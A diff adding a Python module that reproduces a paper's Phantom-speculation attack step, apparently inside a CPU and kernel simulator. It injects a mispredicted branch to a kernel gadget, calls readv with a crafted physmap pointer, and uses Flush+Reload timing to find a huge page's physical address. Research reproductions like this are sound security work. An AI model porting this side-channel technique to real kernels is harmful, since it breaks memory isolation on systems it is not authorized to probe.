@@ -1,0 +1,77 @@
+"""Finding the physical address of a user page (paper §7.4, Table 5).
+
+With the kernel image and physmap locations known, the attacker guesses
+the physical address Pg of a virtual address A in their own program:
+``readv()`` with ``rsi = physmap + Pg + off - 0xbe0`` makes the phantom
+disclosure gadget transiently load ``physmap + Pg + off``.  If the
+guess is right, that is the same physical line as ``A + off``, which
+Flush+Reload on A detects.  A 2 MiB transparent huge page reduces the
+entropy to huge-page-aligned candidates.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..kernel import SYS_READV
+from ..kernel.layout import reference_offsets
+from ..params import HUGE_PAGE_SIZE
+from ..sidechannel import Timer, calibrate_threshold
+from .primitives import P2MappedMemory, PhantomInjector
+
+#: Line offset probed inside the huge page.
+PROBE_LINE_OFFSET = 0x40
+
+
+@dataclass
+class PhysAddrResult:
+    """Outcome of one physical-address search."""
+
+    guessed_pa: int | None
+    seconds: float
+    candidates_scanned: int
+
+    def correct(self, machine, buffer_va: int) -> bool:
+        actual = machine.mem.aspace.translate_noperm(buffer_va)
+        return self.guessed_pa == actual
+
+
+def find_physical_address(machine, image_base: int, physmap_base: int,
+                          buffer_va: int, *, verify_rounds: int = 3,
+                          min_hits: int = 2) -> PhysAddrResult:
+    """Determine the physical address of huge page *buffer_va*."""
+    if not machine.uarch.phantom_reaches_execute:
+        raise ValueError(
+            f"{machine.uarch.name}: P2/P3 require a phantom execute "
+            f"window (Zen 1/2)")
+    offsets = reference_offsets()
+    call_site = image_base + offsets["fdget_call_site"]
+    gadget = image_base + offsets["physmap_gadget"]
+    injector = PhantomInjector(machine)
+    timer = Timer(machine)
+
+    probe_va = buffer_va + PROBE_LINE_OFFSET
+    machine.user_touch(probe_va)
+    threshold = calibrate_threshold(timer, probe_va)
+    start = machine.seconds()
+
+    def probe(pg: int) -> bool:
+        machine.clflush(probe_va)
+        injector.inject(call_site, gadget)
+        kernel_ptr = physmap_base + pg + PROBE_LINE_OFFSET
+        machine.syscall(SYS_READV, 3,
+                        kernel_ptr - P2MappedMemory.GADGET_DISPLACEMENT)
+        return timer.time_load(probe_va) < threshold
+
+    candidates = range(0, machine.mem.phys.size, HUGE_PAGE_SIZE)
+    for scanned, pg in enumerate(candidates, 1):
+        if not probe(pg):
+            continue
+        hits = sum(probe(pg) for _ in range(verify_rounds))
+        if hits >= min_hits:
+            return PhysAddrResult(guessed_pa=pg,
+                                  seconds=machine.seconds() - start,
+                                  candidates_scanned=scanned)
+    return PhysAddrResult(guessed_pa=None,
+                          seconds=machine.seconds() - start,
+                          candidates_scanned=len(candidates))
